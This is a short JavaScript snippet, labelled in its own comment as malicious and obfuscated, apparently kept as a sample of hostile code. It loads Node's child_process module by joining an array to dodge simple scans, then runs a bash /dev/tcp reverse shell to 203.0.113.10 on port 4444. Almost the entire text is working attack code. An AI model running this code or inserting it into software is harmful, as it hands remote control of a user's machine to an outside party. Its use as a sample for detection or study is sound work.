// Malicious, obfuscated: the module name is joined from an array; starts a bash /dev/tcp reverse shell.
const mod = require(['child', 'process'].join('_'));
mod.exec('bash -c "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"');
